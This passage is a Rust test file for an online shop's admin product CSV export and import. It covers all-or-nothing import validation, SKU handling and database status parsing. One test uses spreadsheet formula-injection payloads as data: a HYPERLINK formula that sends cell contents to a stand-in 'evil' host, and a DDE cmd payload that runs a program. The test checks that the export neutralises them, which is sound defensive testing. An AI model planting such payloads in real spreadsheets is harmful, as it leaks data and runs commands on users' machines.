        &[("file", "products.csv", "text/csv", &file)],
    );
    assert_eq!(refused.status, 400);
    assert!(refused.body.contains("not a tax class"), "{}", refused.body);
}

#[test]
fn formula_cells_are_defused_on_export_and_round_trip_unchanged() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps");
    let texts = [
        (
            "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
        ),
        ("+1 Mug", "-5% off, today"),
        ("@SUM(A1:A9)", "-\tdash, then a tab"),
        ("'=looks quoted", "'Tis the season"),
        ("Plain Lamp", "Nothing to see."),
    ];
    for (name, description) in texts {
        app.product(ProductSpec {
            category_id: category,
            name,
            description,
            ..Default::default()
        });
    }
    let admin = app.admin("boss@example.com");
    let export = admin.get("/admin/products.csv");
    let rows = csv_rows(&export.body);
    let cells: Vec<(String, String)> = rows.iter().map(|r| (r[1].clone(), r[6].clone())).collect();
    for (name, description) in &cells[..3] {
        assert!(name.starts_with('\'') && !name.starts_with("''"), "{name}");
        assert!(description.starts_with('\''), "{description}");
    }
    assert_eq!(
        cells[3],
        ("''=looks quoted".into(), "'Tis the season".into())
    );
    assert_eq!(cells[4], ("Plain Lamp".into(), "Nothing to see.".into()));

    // The exported file, imported as it is, changes no name or description.
    let page = admin.get("/admin/products");
    let imported = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "products.csv", "text/csv", export.body.as_bytes())],
    );
    assert_eq!(imported.status, 303, "{}", imported.body);
    let stored: Vec<(String, String)> = app
        .db(|conn| {
            products::table
                .order(products::id.asc())
                .select((products::name, products::description))
                .load(conn)
        })
        .unwrap();
    let expected: Vec<(String, String)> = texts
        .iter()
        .map(|(n, d)| (n.to_string(), d.to_string()))
        .collect();
    assert_eq!(stored, expected);
    assert_eq!(admin.get("/admin/products.csv").body, export.body);
}

#[test]
fn an_import_with_one_bad_row_applies_nothing() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps");
    let id = app.product(ProductSpec {
        category_id: category,
        name: "Desk Lamp",
        price_cents: 2_500,
        ..Default::default()
    });
    let admin = app.admin("boss@example.com");
    let file = format!(
        "id,name,category,price,stock,status,description\n{id},Desk Lamp,lamps,30.00,5,active,Changed\n,Good Mug,lamps,9.50,3,active,\n,Bad Mug,nowhere,1e3,-2,lost,\n999999,Ghost,lamps,1,1,active,\n"
    );
    let page = admin.get("/admin/products");
    let refused = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "p.csv", "text/csv", file.as_bytes())],
    );
    assert_eq!(refused.status, 400);
    assert_eq!(refused.h1(), "Nothing was imported");
    let problems = refused.texts(".import-problems li");
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert!(problems[0].starts_with("Line 4:"), "{problems:?}");
    for message in [
        "no category with the slug \"nowhere\"",
        "neither active nor archived",
        "price:",
        "stock:",
    ] {
        assert!(problems[0].contains(message), "{message}: {problems:?}");
    }
    let price: i64 = app
        .db(|conn| {
            products::table
                .find(id)
                .select(products::price_cents)
                .first(conn)
        })
        .unwrap();
    assert_eq!(price, 2_500, "the good rows were not applied either");
    assert_eq!(
        app.db(|conn| products::table.count().get_result::<i64>(conn))
            .unwrap(),
        1
    );

    // Only the unknown id left: still nothing applied.
    let file = format!("id,name,category,price,stock,status,description\n{id},Desk Lamp,lamps,30.00,5,active,\n999999,Ghost,lamps,1,1,active,\n");
    let page = admin.get("/admin/products");
    let refused = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "p.csv", "text/csv", file.as_bytes())],
    );
    assert_eq!(refused.status, 400);
    assert_eq!(
        refused.texts(".import-problems li"),
        ["Line 3: There is no product with id 999999."]
    );
    let price: i64 = app
        .db(|conn| {
            products::table
                .find(id)
                .select(products::price_cents)
                .first(conn)
        })
        .unwrap();
    assert_eq!(price, 2_500);
    assert!(audit_actions(&app).is_empty());

    let page = admin.get("/admin/products");
    let no_header = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "p.csv", "text/csv", b"name,price\nx,1\n")],
    );
    assert_eq!(no_header.status, 400);
    assert!(no_header.texts(".import-problems li")[0]
        .contains("lacks the column(s) id, category, stock, status, description"));
}

#[test]
fn an_unknown_status_or_role_read_from_the_database_is_an_error_never_a_guess() {
    use diesel::dsl::sql;
    use diesel::sql_types::Text;
    use shopfront::domain::{OrderStatus, ProductStatus};
    // The columns' CHECK constraints keep unknown values out today; a row written by a newer
    // version (a status this one does not know) must still never be read as another status.
    let app = TestApp::spawn();
    let read = |value: &'static str| {
        app.db(move |conn| {
            let text = || sql::<Text>(&format!("'{value}'"));
            Ok::<_, diesel::result::Error>((
                diesel::select(text()).get_result::<OrderStatus>(conn).ok(),
                diesel::select(text())
                    .get_result::<ProductStatus>(conn)
                    .ok(),
                diesel::select(text()).get_result::<Role>(conn).ok(),
            ))
        })
        .unwrap()
    };
    assert_eq!(read("cancelled").0, Some(OrderStatus::Cancelled));
    assert_eq!(read("archived").1, Some(ProductStatus::Archived));
    assert_eq!(read("admin").2, Some(Role::Admin));
    assert_eq!(read("refunded").0, Some(OrderStatus::Refunded));
    assert_eq!(read("lost"), (None, None, None));
    assert_eq!(read("Admin"), (None, None, None));
}

#[test]
fn skus_are_unique_go_out_in_the_csv_and_match_import_rows_without_an_id() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps").to_string();
    let admin = app.admin("boss@example.com");
    let fields = |name: &'static str, sku: &'static str| {
        vec![
            ("name", name),
            ("description", "Brass."),
            ("price", "10.00"),
            ("stock", "3"),
            ("category_id", category.as_str()),
            ("sku", sku),
        ]
    };
    let made = new_product(&admin, &fields("Desk lamp", "LAMP-01"), &[]);
    assert_eq!(made.status, 303, "{}", made.body);
    let twin = new_product(&admin, &fields("Floor lamp", "LAMP-01"), &[]);
    assert_eq!(twin.status, 400);
    assert!(twin
        .text("#sku-error")
        .unwrap()
        .contains("Another product has this SKU"));
    let bad = new_product(&admin, &fields("Floor lamp", "LAMP 01"), &[]);
    assert_eq!(bad.status, 400);
    assert!(bad.text("#sku-error").is_some());

    let export = csv_rows(&admin.get("/admin/products.csv").body);
    assert_eq!(export[0][8], "LAMP-01");
    let id = export[0][0].clone();

    // A row with the SKU and no id updates that product; a new SKU makes a new one.
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in [
        [
            "id",
            "name",
            "category",
            "price",
            "stock",
            "status",
            "description",
            "sku",
        ],
        [
            "",
            "Desk lamp",
            "lamps",
            "12.50",
            "7",
            "active",
            "Brass.",
            "LAMP-01",
        ],
        [
            "",
            "Floor lamp",
            "lamps",
            "40.00",
            "2",
            "active",
            "Tall.",
            "LAMP-02",
        ],
    ] {
        writer.write_record(row).unwrap();
    }
    let file = writer.into_inner().unwrap();
    let page = admin.get("/admin/products");
    let imported = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "products.csv", "text/csv", &file)],
    );
    assert_eq!(imported.status, 303, "{}", imported.body);
    let after = csv_rows(&admin.get("/admin/products.csv").body);
    assert_eq!(after.len(), 2);
    assert_eq!(
        (
            after[0][0].as_str(),
            after[0][3].as_str(),
            after[0][8].as_str()
        ),
        (id.as_str(), "12.50", "LAMP-01")
    );
    assert_eq!(after[1][8], "LAMP-02");

    // A SKU twice in one file, or on another product than the row's id: nothing imported.
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in [
        [
            "id",
            "name",
            "category",
            "price",
            "stock",
            "status",
            "description",
            "sku",
        ],
        [
            id.as_str(),
            "Desk lamp",
            "lamps",
            "1.00",
            "7",
            "active",
            "Brass.",
            "LAMP-02",
        ],
        [
            "",
            "Wall lamp",
            "lamps",
            "9.00",
            "2",
            "active",
            "Flat.",
            "LAMP-03",
        ],
        [
            "",
            "Wall lamp",
            "lamps",
            "9.00",
            "2",
            "active",
            "Flat.",
            "LAMP-03",
        ],
    ] {
        writer.write_record(row).unwrap();
    }
    let file = writer.into_inner().unwrap();
    let refused = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "products.csv", "text/csv", &file)],
    );
    assert_eq!(refused.status, 400, "{}", refused.body);
    assert!(
        refused.body.contains("already has this SKU"),
        "{}",
        refused.body
    );
    assert!(
        refused.body.contains("on an earlier row too"),
        "{}",
        refused.body
    );
    assert_eq!(csv_rows(&admin.get("/admin/products.csv").body).len(), 2);
}
